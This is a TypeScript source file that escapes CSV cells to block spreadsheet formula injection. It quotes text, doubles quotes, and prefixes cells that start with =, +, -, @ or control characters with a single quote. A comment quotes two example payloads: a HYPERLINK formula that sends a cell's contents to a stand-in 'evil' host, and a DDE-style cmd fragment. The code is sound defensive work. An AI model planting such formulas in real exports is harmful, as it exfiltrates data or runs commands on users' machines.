/** A CSV cell: text, a number, or nothing (written empty). */
export type CsvCell = string | number | null;

/**
 * What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"): a text cell starting
 * with one of these would run, e.g. `=HYPERLINK("http://evil/?"&A1,"click")` or `@SUM(1+1)*cmd|…`.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * One cell of a CSV export (docs/security.md, "Exports"). Text is always quoted, embedded quotes
 * doubled, and text that a spreadsheet would read as a formula is prefixed with a single quote, so
 * that it shows as the text it is. Numbers are written as numbers: they carry no formula, and a
 * negative figure must stay a figure.
 */
export const csvCell = (value: CsvCell): string => {
  if (value === null) return '';
  if (typeof value === 'number') return String(value);
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return `"${text.replace(/"/g, '""')}"`;
};

/**
 * Rows as a CSV file's text (RFC 4180, comma-separated, CRLF line ends), with a UTF-8 byte-order
 * mark so that spreadsheets read accents. Every CSV the console writes goes through here.
 *
 * @example
 * toCsv([['Name', 'Count'], ['=1+1', 2]]); // '\uFEFF"Name","Count"\r\n"\'=1+1",2\r\n'
 */
export const toCsv = (rows: readonly (readonly CsvCell[])[]): string =>
  `\uFEFF${rows.map((row) => row.map(csvCell).join(',')).join('\r\n')}\r\n`;
